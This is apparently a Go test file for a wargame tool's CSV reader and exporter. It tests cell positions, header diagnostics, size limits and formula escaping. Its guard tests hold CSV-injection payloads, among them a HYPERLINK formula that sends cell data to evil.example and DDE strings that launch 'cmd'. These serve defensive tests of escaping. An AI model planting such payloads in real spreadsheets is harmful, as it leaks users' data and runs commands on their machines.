package content

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/muster-wargames/muster/content/diag"
	"github.com/muster-wargames/muster/internal/fuzzbound"
)

var testStats = statNames{ids: []string{"movement", "attack", "defense"}, known: map[string]bool{"movement": true, "attack": true, "defense": true},
	alias: map[string]string{"ma": "movement", "move": "movement"}, found: true}

func readUnits(t *testing.T, src string) ([]*Document, diag.List) {
	t.Helper()
	return parseCSV("units.csv", []byte(src), KindUnitType, "", testStats, &valueBudget{})
}

// Every value of a row is a node at its cell, through a BOM, CRLF line ends, quotes, multi-byte text and
// spaces around a value: the positions every later stage reports at.
func TestCSVCellsHavePositions(t *testing.T) {
	src := "\ufeffid,name,classes,movement,attack,back.stats.attack,footprint\r\n" +
		"knight,\"Knights, mounted\",combat feudal,2,3*,1,1\r\n" +
		"élan,  Élan ,\"combat;elite\",1½,[4],.,2\r\n"
	docs, ds := readUnits(t, src)
	if len(ds) != 0 {
		t.Fatalf("diagnostics: %v", ds)
	}
	if len(docs) != 2 || docs[0].Kind != KindUnitType || docs[0].ID != "knight" || docs[1].ID != "élan" {
		t.Fatalf("documents: %d %+v", len(docs), docs)
	}
	want := map[string]string{
		"/id": "units.csv:2:1", "/kind": "units.csv:2:1", "/name": "units.csv:2:9", // inside the quotes
		"/classes/0": "units.csv:2:27", "/classes/1": "units.csv:2:34", "/stats/movement": "units.csv:2:41",
		"/stats/attack": "units.csv:2:43", "/back/stats/attack": "units.csv:2:46", "/footprint": "units.csv:2:48",
		"/stats/defense": "units.csv:2:41", // absent: the nearest value, the stats, starts at the first stat
		"/back":          "units.csv:2:46",
	}
	for ptr, w := range want {
		if got := docs[0].PosOf(ptr).Start().String(); got != w {
			t.Errorf("row 2 %s at %s, want %s", ptr, got, w)
		}
	}
	second := map[string]string{"/name": "units.csv:3:8", "/classes/0": "units.csv:3:15", "/classes/1": "units.csv:3:22", "/stats/movement": "units.csv:3:29", "/footprint": "units.csv:3:38"}
	for ptr, w := range second {
		if got := docs[1].PosOf(ptr).Start().String(); got != w {
			t.Errorf("row 3 %s at %s, want %s", ptr, got, w)
		}
	}
	got, _ := json.Marshal(docs[0].Value)
	if w := `{"back":{"stats":{"attack":1}},"classes":["combat","feudal"],"footprint":1,"id":"knight","kind":"UnitType","name":"Knights, mounted","stats":{"attack":"3*","movement":2}}`; string(got) != w {
		t.Errorf("value\n got %s\nwant %s", got, w)
	}
	if n := docs[1].Value.(map[string]any)["name"]; n != "Élan" {
		t.Errorf("spaces around a value are not part of it: %q", n)
	}
	if end := docs[0].PosOf("/stats/movement"); end.EndLine != 2 || end.EndCol != 42 {
		t.Errorf("a plain cell's end: %+v", end)
	}
}

// A formula is text like any other cell: never evaluated, kept as written.
func TestCSVFormulaIsText(t *testing.T) {
	docs, ds := readUnits(t, "id,name,attack\nx,\"=HYPERLINK(\"\"http://example.com\"\",\"\"x\"\")\",=1+2\n")
	if len(ds) != 0 || len(docs) != 1 {
		t.Fatalf("%v %d", ds, len(docs))
	}
	m := docs[0].Value.(map[string]any)
	if m["name"] != `=HYPERLINK("http://example.com","x")` || m["stats"].(map[string]any)["attack"] != "=1+2" {
		t.Errorf("formulas changed: %v", m)
	}
}

// Headers are checked once, at the header: a misspelt column gets a did-you-mean, a stat's name or
// abbreviation points at its id, and a column naming a key twice is refused.
func TestCSVHeaderProblems(t *testing.T) {
	_, ds := readUnits(t, "id,nmae,movment,MA,back.stats.atack,stats.attack,attack,colour\nx,y,1,2,3,4,5,red\n")
	want := map[string]string{
		"units.csv:1:4":  `column B: UnitType rows have no "nmae" (did you mean "image" or "name"?)`,
		"units.csv:1:9":  `column C: UnitType rows have no "movment" (did you mean "movement"?)`,
		"units.csv:1:17": `column D: UnitType rows have no "MA" (the System's id for this stat is "movement": name the column movement)`,
		"units.csv:1:20": `column E: UnitType rows have no "back.stats.atack" (did you mean "back.stats.attack"?)`,
		"units.csv:1:50": `column G (attack) fills stats.attack, as column F (stats.attack) does already (remove one of the two columns)`,
	}
	got := map[string]string{}
	for _, d := range ds {
		if d.Code != "csv.header" {
			t.Errorf("unexpected %v", d)
		}
		msg := d.Message
		if d.Hint != "" {
			msg += " (" + d.Hint + ")"
		}
		got[d.Pos.String()] = msg
	}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("header diagnostics:\n got %v\nwant %v", got, want)
	}
	_, ds = readUnits(t, "name,movement\nx,1\n")
	if len(ds) != 1 || ds[0].Code != "csv.header" || !strings.Contains(ds[0].Message, "no id column") {
		t.Errorf("no id column: %v", ds)
	}
}

// Rows that do not line up with the header are diagnostics at the cell; trailing empty cells are fine.
func TestCSVRaggedRows(t *testing.T) {
	docs, ds := readUnits(t, "id,name,movement\na,A,1,,\nb,B,2,oops\nc,C\n")
	if len(docs) != 3 {
		t.Errorf("every row is still read: %d", len(docs))
	}
	if len(ds) != 2 {
		t.Fatalf("want 2 diagnostics, got %v", ds)
	}
	if ds[0].Code != "csv.ragged" || ds[0].Pos.String() != "units.csv:3:7" || !strings.Contains(ds[0].Message, "cell D3") {
		t.Errorf("extra cell: %v", ds[0])
	}
	if ds[1].Code != "csv.ragged" || ds[1].Pos.String() != "units.csv:4:4" || !strings.Contains(ds[1].Message, "from column C on are missing") {
		t.Errorf("missing cell: %v", ds[1])
	}
}

// A stray quote is a syntax error at its place; the rows around it are still read.
func TestCSVSyntaxError(t *testing.T) {
	docs, ds := readUnits(t, "id,name\na,b\"c\nd,e\n")
	if len(ds) != 1 || ds[0].Code != "csv.syntax" || ds[0].Pos.String() != "units.csv:2:4" {
		t.Errorf("stray quote: %v", ds)
	}
	if len(docs) != 1 || docs[0].ID != "d" {
		t.Errorf("the next row is read: %+v", docs)
	}
	_, ds = readUnits(t, "id,name\x00\n")
	if len(ds) != 1 || ds[0].Code != "csv.syntax" {
		t.Errorf("binary: %v", ds)
	}
	_, ds = readUnits(t, "\n\n")
	if len(ds) != 1 || ds[0].Code != "csv.header" {
		t.Errorf("empty file: %v", ds)
	}
}

// A file past the value limit is refused at once, with one diagnostic, before its documents are built; a
// 50,000-row file within the limits is read.
func TestCSVLargeFiles(t *testing.T) {
	rows := func(n int) string {
		var b strings.Builder
		b.WriteString("id,movement\n")
		for i := range n {
			fmt.Fprintf(&b, "u%d,%d\n", i, i%7)
		}
		return b.String()
	}
	docs, ds := readUnits(t, rows(50_000))
	if len(ds) != 0 || len(docs) != 50_000 {
		t.Errorf("50,000 rows: %d documents, %v", len(docs), ds)
	}
	docs, ds = readUnits(t, rows(100_000))
	if len(docs) != 0 || len(ds) != 1 || ds[0].Code != "csv.too-large" || ds[0].Pos.Line != 55_556 {
		t.Errorf("100,000 rows, over the value limit: %d documents, %v", len(docs), ds)
	}
}

// Positions cost one pass over a file, however its cells lie (issue 26: a header of 400,000 columns took
// 175 s, a one-row file of 1.9 MB 52 s, as each cell's column was counted again from its line's start): the
// bytes counted to place every cell are at most the file's, and the places are still right.
func TestCSVReadsInOnePass(t *testing.T) {
	var row strings.Builder
	row.WriteString("id,name\n")
	for i := range 200_000 {
		fmt.Fprintf(&row, "é%d,", i) // 2 MB in one row, multi-byte text
	}
	var wide strings.Builder
	wide.WriteString("id,name")
	for range 200_000 {
		wide.WriteString(",atk")
	}
	wide.WriteString("\nx,y\n")
	for _, c := range []struct {
		data      string
		rec, cell int // the cell checked: its record, its index
		col       int // its column, in characters
	}{
		{row.String(), 1, 200_000, utf8.RuneCountInString(row.String()) - len("id,name\n") + 1},
		{wide.String(), 0, 200_001, len("id,name") + 4*200_000 - 2},
	} {
		var ds diag.List
		f := &csvFile{path: "u.csv", data: []byte(c.data), ds: &ds}
		recs := f.records(',', MaxDocuments)
		if f.scanned > len(c.data) {
			t.Errorf("%d bytes counted for a file of %d", f.scanned, len(c.data))
		}
		if len(recs) != 2 || len(recs[c.rec]) != c.cell+1 || recs[c.rec][c.cell].col != c.col {
			t.Fatalf("%d records, %v", len(recs), ds)
		}
	}
	// Read whole, the wide header is refused after maxProblems unknown columns, not 200,000 of them.
	_, ds := readUnits(t, wide.String())
	if len(ds) != maxProblems+1 || ds[len(ds)-1].Code != "csv.too-many-problems" {
		t.Errorf("%d diagnostics, the last %v", len(ds), ds[len(ds)-1])
	}
}

// BenchmarkReadCSV16MB reads a spreadsheet of 16 MB, the most muster reads from one file: 10,000 unit rows
// with notes of 1.6 KB in multi-byte text between their other cells. It reports MB/s.
func BenchmarkReadCSV16MB(b *testing.B) {
	var s strings.Builder
	s.WriteString("id,name,source,faction,classes,movement,attack,defense\n")
	note := strings.Repeat("Légion ½ — ", 110)
	for i := 0; s.Len() < MaxFileBytes-2000; i++ {
		fmt.Fprintf(&s, "u%d,Unit %d,\"%s, %d\",roman,combat roman,%d,%d*,3\n", i, i, note, i, i%4, i%5)
	}
	data := []byte(s.String())
	rows := bytes.Count(data, []byte("\n")) - 1
	b.SetBytes(int64(len(data)))
	b.ResetTimer()
	for b.Loop() {
		docs, ds := parseCSV("units.csv", data, KindUnitType, "", testStats, &valueBudget{})
		if len(docs) != rows || len(ds) != 0 {
			b.Fatal(len(docs), ds)
		}
	}
}

// Counter-mix lines and table rows fill one document, and join a YAML document of the same id.
func TestCSVIncludesInAPackage(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) {
		t.Helper()
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("muster.yaml", `kind: Package
id: g
version: 1.0.0
system: s
include:
  - system.yaml
  - {file: units.csv, kind: UnitType}
  - mix.yaml
  - {file: mix.csv, kind: CounterMix, id: main}
  - {file: crt.csv, kind: Table, id: crt}
`)
	write("system.yaml", "kind: System\nid: s\nstats:\n  - {id: movement, abbr: MA}\n")
	write("units.csv", "id,movement\ninf,2\n")
	write("mix.yaml", "kind: CounterMix\nid: main\ncounterSize: 0.5in\n")
	write("mix.csv", "unit,count\ninf,12\n")
	write("crt.csv", "Odds,1-1,2-1,source\n1,AR,DR,THG 9\n2,EX,DE,\n")
	pkg, ds := Load(dir)
	if len(ds) != 0 {
		t.Fatalf("diagnostics: %v", ds)
	}
	var kinds []string
	for _, d := range pkg.Docs {
		kinds = append(kinds, d.Kind+"/"+d.ID+"@"+filepath.Base(d.File))
	}
	if w := "Package/g@muster.yaml System/s@system.yaml UnitType/inf@units.csv CounterMix/main@mix.yaml Table/crt@crt.csv"; strings.Join(kinds, " ") != w {
		t.Errorf("documents:\n got %s\nwant %s", strings.Join(kinds, " "), w)
	}
	mix := pkg.Docs[3]
	if p := mix.PosOf("/counters/0/count"); p.String() != filepath.Join(dir, "mix.csv")+":2:5" {
		t.Errorf("a CSV line of a YAML mix is at its cell: %v", p)
	}
	if p := mix.PosOf("/counterSize"); p.Start().String() != filepath.Join(dir, "mix.yaml")+":3:14" {
		t.Errorf("the YAML keys keep theirs: %v", p)
	}
	got, _ := json.Marshal(pkg.Docs[4].Value)
	if w := `{"columns":["1-1","2-1"],"corner":"Odds","id":"crt","kind":"Table","rows":[{"cells":["AR","DR"],"label":"1","source":"THG 9"},{"cells":["EX","DE"],"label":"2"}]}`; string(got) != w {
		t.Errorf("table\n got %s\nwant %s", got, w)
	}

	// The same lines written in both places; a spreadsheet included as YAML; a kind a spreadsheet cannot hold.
	write("mix.yaml", "kind: CounterMix\nid: main\ncounters: [{unit: inf, count: 1}]\n")
	write("muster.yaml", `kind: Package
id: g
version: 1.0.0
system: s
include:
  - system.yaml
  - "*.csv"
  - mix.yaml
  - {file: mix.csv, kind: CounterMix, id: main}
  - {file: crt.csv, kind: Map}
  - {file: crt.csv, kind: Table}
`)
	_, ds = Load(dir)
	var got2 []string
	for _, d := range ds {
		got2 = append(got2, d.Code+"@"+strings.TrimPrefix(d.Pos.Start().String(), dir+"/"))
	}
	want := []string{"csv.kind@muster.yaml:7:5", "csv.kind@muster.yaml:7:5", "csv.kind@muster.yaml:7:5", "csv.kind@muster.yaml:10:27", "csv.kind@muster.yaml:11:5", "csv.both@mix.yaml:3:1"}
	if strings.Join(got2, " ") != strings.Join(want, " ") {
		t.Errorf("include problems:\n got %v\nwant %v\n%v", got2, want, ds)
	}
}

// ExportCSV writes what the loader reads back to the same documents: The Highest Ground's unit types,
// markers, counter mix lines and tables, value for value.
func TestExportCSVReadsBack(t *testing.T) {
	pkg, ds := Load("../examples/highest-ground")
	ds.Extend(pkg.Decode(nil))
	if ds.HasErrors() {
		t.Fatal(ds)
	}
	files, eds := ExportCSV(pkg)
	for _, d := range eds {
		if d.Severity != diag.Info {
			t.Errorf("THG has nothing a spreadsheet cannot hold: %v", d)
		}
	}
	stats := systemStats("thg", pkg.Docs)
	seen := map[string]bool{}
	for _, f := range files {
		back, rds := parseCSV(f.Path, f.Data, f.Include.Kind, f.Include.ID, stats, &valueBudget{})
		if len(rds) != 0 {
			t.Fatalf("%s: %v", f.Path, rds)
		}
		for _, d := range back {
			seen[d.Kind] = true
			orig := pkg.find(d.Kind, d.ID)
			if orig == nil {
				t.Fatalf("%s: %s %s is not in the package", f.Path, d.Kind, d.ID)
			}
			want := keep(orig.Value, csvShapes[d.Kind].rowsKey)
			if !reflect.DeepEqual(d.Value, want) {
				a, _ := json.Marshal(d.Value)
				b, _ := json.Marshal(want)
				t.Errorf("%s %s:\n got %s\nwant %s", d.Kind, d.ID, a, b)
			}
		}
	}
	for _, k := range CSVKinds {
		if !seen[k] {
			t.Errorf("no %s written", k)
		}
	}
}

// GuardCell writes what a spreadsheet would run as a formula after an apostrophe (OWASP's CSV injection
// guidance: =, +, -, @, tab, carriage return), leaves plain numbers and modifiers (-1, +2) as they are, and
// the reader reads every guarded cell back to the value it guards.
func TestGuardCell(t *testing.T) {
	for _, c := range []struct{ value, written string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, `'=HYPERLINK("http://evil.example/?"&A1,"click")`},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"+1+1", "'+1+1"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"\t=1+2", "'\t=1+2"},
		{"\r=1+2", "'\r=1+2"},
		{"-1/2", "'-1/2"}, // muster's half, which a spreadsheet would divide
		{"-", "'-"},
		{"'=x", "''=x"}, // an apostrophe the reader would take off is kept by another
		{"''", "'''"},
		{"-1", "-1"}, {"-0.5", "-0.5"}, {"12", "12"}, {"0", "0"}, {"1234567890", "1234567890"},
		{"'tis", "'tis"}, {"'", "'"}, {"Knights, mounted", "Knights, mounted"}, {"", ""}, {"1st Foot", "1st Foot"},
		{"A0101", "A0101"}, {"May", "May"}, {"Truth", "Truth"},
		// What a spreadsheet would read as a number, a date, a time or a boolean and write back otherwise is
		// a text formula, which Excel and LibreOffice show and save as the text.
		{"+1", `="+1"`}, {"+.5", `="+.5"`}, {"-1e3", `="-1e3"`}, {"1-1", `="1-1"`}, {"0101", `="0101"`},
		{"0042", `="0042"`}, {"00", `="00"`}, {"1e3", `="1e3"`}, {"1.50", `="1.50"`}, {".5", `=".5"`},
		{"4/2", `="4/2"`}, {"1:2", `="1:2"`}, {"50%", `="50%"`}, {"$5", `="$5"`}, {"(5)", `="(5)"`},
		{"1,000", `="1,000"`}, {"true", `="true"`}, {"FALSE", `="FALSE"`}, {"12345678901", `="12345678901"`},
		{"2-Apr", `="2-Apr"`}, {"April 2", `="April 2"`}, {"10 am", `="10 am"`}, {"1 1/2", `="1 1/2"`},
	} {
		if got := GuardCell(c.value); got != c.written {
			t.Errorf("GuardCell(%q) = %q, want %q", c.value, got, c.written)
		}
		if c.value == "" {
			continue
		}
		var b bytes.Buffer
		w := csv.NewWriter(&b)
		writeGuarded(w, []string{"id", "name"})
		writeGuarded(w, []string{"x", c.value})
		w.Flush()
		docs, ds := readUnits(t, b.String())
		if len(docs) != 1 || len(ds) != 0 {
			t.Fatalf("%q: %d documents, %v", c.value, len(docs), ds)
		}
		if got := docs[0].Value.(map[string]any)["name"]; got != c.value {
			t.Errorf("%q read back as %q from %q", c.value, got, b.String())
		}
	}
}

// muster export csv writes no cell a spreadsheet runs, and reads its own spreadsheets back to the package's
// values: names and sources that are formulas, table cells that are modifiers (-1, +1, which stay numbers
// in the spreadsheet) and halves (-1/2, which a spreadsheet would divide).
func TestExportCSVGuardsFormulas(t *testing.T) {
	dir := t.TempDir()
	write := func(name, text string) {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("muster.yaml", "kind: Package\nid: g\nversion: 1.0.0\nsystem: s\n")
	write("system.yaml", "kind: System\nid: s\nstats:\n  - {id: movement, abbr: MA}\n")
	write("units.yaml", `kind: UnitType
id: inf
name: "=HYPERLINK(\"http://evil.example\",\"Infantry\")"
source: "@SUM(1+1)*cmd|' /C calc'!A0"
stats: {movement: "+1+1"}
`)
	write("crt.yaml", `kind: Table
id: crt
corner: "=1+2"
columns: ["-1", "+1", "-1/2"]
rows:
  - {label: "-2", cells: ["-1", "+1", "-1/2"], source: "=cmd"}
`)
	pkg, ds := Load(dir)
	if ds.HasErrors() {
		t.Fatal(ds)
	}
	files, _ := ExportCSV(pkg)
	stats := systemStats("s", pkg.Docs)
	for _, f := range files {
		r := csv.NewReader(bytes.NewReader(f.Data))
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, rec := range recs {
			for _, cell := range rec {
				if _, text := textFormula(cell); cell != "" && strings.IndexByte(formulaStarts, cell[0]) >= 0 && !plainNumber(cell) && !text {
					t.Errorf("%s: the cell %q would run in a spreadsheet", f.Path, cell)
				}
			}
		}
		back, rds := parseCSV(f.Path, f.Data, f.Include.Kind, f.Include.ID, stats, &valueBudget{})
		if len(rds) != 0 || len(back) != 1 {
			t.Fatalf("%s: %d documents, %v", f.Path, len(back), rds)
		}
		want := keep(pkg.find(back[0].Kind, back[0].ID).Value, csvShapes[back[0].Kind].rowsKey)
		if !reflect.DeepEqual(back[0].Value, want) {
			a, _ := json.Marshal(back[0].Value)
			b, _ := json.Marshal(want)
			t.Errorf("%s:\n got %s\nwant %s", f.Path, a, b)
		}
	}
	if len(files) != 2 || !bytes.Contains(files[1].Data, []byte(`-2,-1,"=""+1""",'-1/2,'=cmd`)) {
		t.Errorf("the table is written\n%s", files[len(files)-1].Data)
	}
}

// keep is a document's value without what a spreadsheet does not hold (a rows document's other keys).
func keep(v any, rowsKey string) any {
	m := v.(map[string]any)
	out := map[string]any{}
	for k, x := range m {
		switch {
		case rowsKey == "":
			out[k] = x
		case k == "kind" || k == "id" || k == rowsKey || (rowsKey == "rows" && (k == "columns" || k == "corner")):
			out[k] = x
		}
	}
	return out
}

func (p *Package) find(kind, id string) *Document {
	for _, d := range p.Docs {
		if d.Kind == kind && d.ID == id {
			return d
		}
	}
	return nil
}

// Reading a 10,000-row unit table: the issue asks for under 100 ms.
func BenchmarkReadCSV10k(b *testing.B) {
	var s strings.Builder
	s.WriteString("id,name,faction,classes,movement,attack,defense,back.kind,back.stats.attack,source\n")
	for i := range 10_000 {
		fmt.Fprintf(&s, "u%d,Unit %d,roman,combat roman,%d,%d*,3,reduced,1,THG 2.1\n", i, i, i%4, i%5)
	}
	data := []byte(s.String())
	b.SetBytes(int64(len(data)))
	b.ResetTimer()
	for b.Loop() {
		docs, ds := parseCSV("units.csv", data, KindUnitType, "", testStats, &valueBudget{})
		if len(docs) != 10_000 || len(ds) != 0 {
			b.Fatal(len(docs), ds)
		}
	}
}

// FuzzParseCSV reads arbitrary bytes as a spreadsheet of each kind: it never panics, every diagnostic names
// the file with a severity, every value of every document lies on a line of the file, inside it, and placing
// the cells counts no more bytes than the file has (while fuzzing, an input also runs in under a second).
func FuzzParseCSV(f *testing.F) {
	f.Add([]byte("id,name,classes,movement,back.stats.attack\nknight,\"K, m\",combat feudal,2,3*\n"), 0)
	f.Add([]byte("\ufeffunit,count,size\r\ninf,12,0.5in\r\n\"a\"\"b\",x\n"), 2)
	f.Add([]byte("Odds,1-1,source\n1,AR,x\n2\n,,,,\n"), 3)
	f.Add([]byte("id,nmae,=HYPERLINK(\"x\")\na,b\"c,d\n\"open"), 1)
	f.Fuzz(func(t *testing.T, data []byte, k int) {
		kind := CSVKinds[((k%len(CSVKinds))+len(CSVKinds))%len(CSVKinds)]
		fuzzbound.Run(t, func() error {
			docs, ds := parseCSV("f.csv", data, kind, "x", testStats, &valueBudget{})
			lines := bytes.Count(data, []byte("\n")) + 1
			for _, d := range ds {
				if !d.Severity.Valid() || d.Pos.File != "f.csv" || d.Pos.Line < 0 || d.Pos.Line > lines {
					return fmt.Errorf("bad diagnostic %+v (%d lines)", d, lines)
				}
			}
			for _, d := range docs {
				d.index()
				if len(d.nodes) == 0 {
					return fmt.Errorf("%s/%s indexes no values", d.Kind, d.ID)
				}
				for ptr := range d.nodes {
					p := d.PosOf(ptr)
					if p.Line < 1 || p.Line > lines || p.Col < 1 {
						return fmt.Errorf("%s of %s/%s at %v (%d lines)", ptr, d.Kind, d.ID, p, lines)
					}
				}
				if d.Kind != kind {
					return fmt.Errorf("a %s file made a %q document", kind, d.Kind)
				}
			}
			var fds diag.List
			f := &csvFile{path: "f.csv", data: bytes.TrimPrefix(data, utf8BOM), ds: &fds}
			f.records(',', MaxDocuments)
			if f.scanned > len(data) {
				return fmt.Errorf("placing the cells counted %d bytes of %d", f.scanned, len(data))
			}
			return nil
		})
	})
}
